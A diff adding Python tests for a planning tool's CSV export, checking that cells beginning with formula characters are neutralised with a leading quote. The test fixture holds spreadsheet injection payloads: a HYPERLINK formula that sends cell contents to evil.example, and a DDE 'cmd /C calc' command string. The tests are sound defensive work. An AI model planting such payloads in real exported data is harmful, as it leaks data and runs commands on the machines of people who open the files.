@@ -211,3 +211,80 @@ def test_store_export_keeps_the_store_s_mode_and_outputs_follow_the_umask(
         assert report.stat().st_mode & 0o777 == 0o604
     finally:
         os.umask(old)
+
+
+HOSTILE_PLAN = """\
+id: hostile
+year: 2018
+title: Hostile plan
+sections:
+  - number: 1
+    title: Section one
+    points:
+      - number: 1
+        title: Point one
+tasks:
+  - id: t1
+    title: '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    month: 3
+    owners: ['@SUM(1+1)']
+    points: [1]
+  - id: t2
+    title: "+cmd|' /C calc'!A0"
+    month: 3
+    target: 6
+    unit: "-1+1"
+    points: [1]
+"""
+
+
+def hostile_plan(tmp_path: Path) -> Path:
+    plan = tmp_path / "hostile.yaml"
+    plan.write_text(HOSTILE_PLAN, encoding="utf-8")
+    return plan
+
+
+def test_csv_neutralises_text_that_a_spreadsheet_would_run(
+    tmp_path: Path, planctl: Planctl
+) -> None:
+    plan = hostile_plan(tmp_path)
+    db = empty_store(str(tmp_path / "s.db"))
+    planctl.ok(
+        "done", "t1", "--by", "-2+3", "--note", "=1+2", "--on", "2018-03-05", db=db, plan=plan
+    )
+    planctl.ok(
+        "done",
+        "t2",
+        "--count",
+        "2",
+        "--by",
+        "\u674e",
+        "--note",
+        "\t@x",
+        "--on",
+        "2018-03-06",
+        db=db,
+        plan=plan,
+    )
+    listed = planctl.ok("list", "--format", "csv", "--lang", "en", db=db, plan=plan)
+    assert listed.splitlines()[1:] == [
+        't1,3,2018-03-01,2018-03-31,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'
+        "'@SUM(1+1),1,,Done,done,2018-03-05,'-2+3,,,,'=1+2",
+        "t2,3,2018-03-01,2018-03-31,'+cmd|' /C calc'!A0,,1,,overdue,red,,,2,6,'-1+1,' @x",
+    ]
+    history = planctl.ok("history", "--format", "csv", "--lang", "en", db=db, plan=plan)
+    assert [line.split(",", 1)[1] for line in history.splitlines()[1:]] == [
+        "t2,'+cmd|' /C calc'!A0,done,2018-03-06,\u674e,' @x",
+        't1,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",done,2018-03-05,\'-2+3,\'=1+2',
+    ]
+
+
+def test_csv_keeps_numbers_and_a_lone_dash_as_they_are() -> None:
+    from planctl.render.csv_out import plain, text_cell
+
+    assert [plain(-3), plain(-0.5), plain("-3"), plain("+5"), plain("-")] == [
+        "-3", "-0.5", "-3", "+5", "-"
+    ]  # fmt: skip
+    assert [text_cell("-3"), text_cell("-"), text_cell("-x"), text_cell("\r=1")] == [
+        "-3", "-", "'-x", "'\n=1"
+    ]  # fmt: skip
